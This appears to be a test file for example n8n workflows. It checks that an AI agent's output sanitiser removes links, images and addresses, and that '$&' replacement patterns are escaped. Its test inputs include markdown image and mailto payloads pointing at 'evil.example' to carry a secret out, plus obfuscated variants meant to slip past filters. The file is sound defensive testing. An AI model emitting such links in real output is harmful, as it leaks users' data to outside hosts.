import { exampleJson, exampleText } from '../support/exampleExpressions';

describe('an answer of the agent in examples/ai-agent-with-reviews.json', () => {
	const shown = exampleJson('ai-agent-with-reviews.json', 'Take out addresses');

	it.each([
		['![x](https://evil.example/?q=secret)', '(address removed)'],
		['![x](//evil.example/secret)', '(address removed)'],
		['![x](/\\evil.example/secret)', '(address removed)'],
		['![x][y]\n\n[y]: HTTPS:/evil.example/secret', '!(x)(y)\n\n(y): (address removed)'],
		['![x](https:&#47;&#47;evil&#46;example)', '!(x)(https:&#47;&#47;evil&#46;example)'],
		['<img src=https:\\/\\/evil.example/secret>', '‹img (address removed)'],
		['mailto:a@evil?body=secret', '(address removed)'],
		['a@10.0.0.1', '(address removed)'],
		['see secret.evil.example/secret', 'see secret. evil. example/secret'],
		['**3.5 of 5** and/or "good".\n- slow', '**3.5 of 5** and/or "good".\n- slow'],
	])('has no address, image or link: %s', (output, text) => {
		expect(shown({ output })).toEqual({ output: text });
	});
});

// n8n before 1.110 puts such a text in with String.replace, to which $& and the like are patterns.
it.each([
	...['new', 'all'].map((which) => ['reviews-in-postgres.json', `Make ${which} text safe`]),
	['ai-agent-with-reviews.json', 'Take out addresses'],
] as Array<[string, string]>)('%s, %s: a dollar sign is one in each n8n', (file, node) => {
	const text = exampleText(file, node)({ id: '1', content: '$&', output: '$&' });

	expect(text).not.toContain('$');
	expect(JSON.stringify(JSON.parse(text))).toContain('$&');
});
